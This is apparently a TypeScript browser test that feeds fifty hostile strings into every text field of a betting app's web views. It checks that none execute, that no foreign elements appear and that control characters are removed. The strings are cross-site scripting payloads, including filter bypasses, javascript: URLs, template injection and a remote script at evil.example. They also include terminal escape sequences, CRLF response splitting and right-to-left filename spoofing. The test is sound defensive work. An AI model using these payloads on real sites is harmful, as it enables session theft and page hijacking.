/** Names, reasons and errors that try to be more than text: markup, scripts, escapes, marks of direction. */
import assert from "node:assert/strict";
import type { Bet } from "../../core/protocol/bet.ts";
import { pageTest, show, VIEWS } from "./page_harness.ts";

const RAN = "globalThis.ran=1";
const MARKUP = [
  `<script>${RAN}</script>`,
  `<img src=x onerror="${RAN}">`,
  `<svg onload="${RAN}"><circle r=9 /></svg>`,
  `"><script>${RAN}</script>`,
  `'><img src=x onerror='${RAN}'>`,
  `</title><script>${RAN}</script>`,
  `</style><script>${RAN}</script>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<a href="javascript:${RAN}" autofocus onfocus="${RAN}">x</a>`,
  `<body onload=${RAN}>`,
  `<details open ontoggle=${RAN}>`,
  `<input autofocus onfocus=${RAN}>`,
  `<object data="data:text/html,<script>${RAN}</script>"></object>`,
  `<embed src="javascript:${RAN}">`,
  `<link rel=stylesheet href="data:text/css,body{display:none}">`,
  `<style>body{display:none}</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<form action="https://evil.example"><button>x`,
  `<math><mtext><script>${RAN}</script>`,
  `<template><script>${RAN}</script></template>`,
  `<video><source onerror=${RAN}></video>`,
  `<marquee onstart=${RAN}>x</marquee>`,
  `<scr<script>ipt>${RAN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<!--<script>${RAN}</script>-->`,
  `]]><script>${RAN}</script>`,
  `{{constructor.constructor("${RAN}")()}}`,
  `\${${RAN}}`,
  `javascript:${RAN}`,
  `&lt;script&gt;${RAN}&lt;/script&gt;`,
  `&#60;script&#62;${RAN}`,
  `%3Cscript%3E${RAN}%3C/script%3E`,
  `\\u003cscript\\u003e${RAN}`,
  `__proto__`,
  `constructor`,
  `\u001b[2J\u001b[31mred`,
  `\u001b]0;title\u0007`,
  `\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007`,
  `\u009b31m`,
  `a\u0000b`,
  `back\b\b\b\bspace`,
  `line\r\nHTTP/1.1 200 OK`,
  `\u202egnp.exe`,
  `\u2066hidden\u2069`,
  `\u200b\u200dzero`,
  `\ufeffbom`,
  `\u2028line\u2029paragraph`,
  `${"Z\u0351\u0352\u0353".repeat(40)}`,
];
// deno-lint-ignore no-control-regex
const STEERING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;
/** What the page may itself consist of. */
const FOREIGN =
  "main script, main img, main iframe, main a:not([href^='/api/'], [href^='#/']), main style, main link, main form:not(.plugin-settings, .proof-form), main form[action], main object, main embed, base";

pageTest("markup is inert on every view when it comes in every text of the host", {
  prepare: (host) => {
    const [table, plugin] = [host.stateOf.tables[0], host.stateOf.plugins[0]];
    host.stateOf.tables = MARKUP.map((text, index) => ({
      ...table,
      table: `t${index}`,
      title: text,
      strategy: text,
      trouble: text,
    }));
    host.stateOf.plugins = MARKUP.map((text, index) => ({
      ...plugin,
      name: `p${index}`,
      title: text,
      version: text,
      hash: text,
      reason: text,
      permissions: [{ net: [text], reason: text }],
    }));
    host.stateOf.betting.reason = MARKUP.join(" ");
    Object.assign(host.stateOf.health, { ok: false, problems: MARKUP });
    host.stateOf.health.writer.trouble = MARKUP[0];
    host.step = () => {};
  },
}, async ({ page, host, complaints }) => {
  const [bet] = await host.bets({ limit: 1 });
  const bets = MARKUP.map((text, index): Bet => ({
    ...bet,
    id: 10_000 + index,
    strategy: text,
    reason: text,
    table: text,
  }));
  host.bets = () => Promise.resolve(bets);
  assert.equal(MARKUP.length, 50);
  for (const view of VIEWS) {
    await show(page, view);
    await page.waitForFunction(() => document.querySelector("main article, main section") !== null);
    if (view === "bets") await page.waitForSelector('[data-bet="10000"]');
    const found = await page.evaluate((foreign) => ({
      ran: Reflect.get(globalThis, "ran"),
      foreign: [...document.querySelectorAll(foreign)].map((element) => element.outerHTML),
      scripts: document.scripts.length,
      text: document.body.textContent ?? "",
      title: document.title,
      over: document.documentElement.scrollWidth - innerWidth,
    }), FOREIGN);
    assert.equal(found.ran, undefined, view);
    assert.deepEqual(found.foreign, [], view);
    assert.equal(found.scripts, 1);
    assert.ok(found.text.includes(MARKUP[0]), `${view} shows markup as text`);
    assert.doesNotMatch(found.text, STEERING);
    assert.ok(found.over <= 0, `${view}: ${found.over} px too wide`);
  }
  // A table whose name is markup can be shown, not asked for.
  assert.deepEqual(complaints.filter((one) => !one.includes("400 (Bad Request)")), []);
});
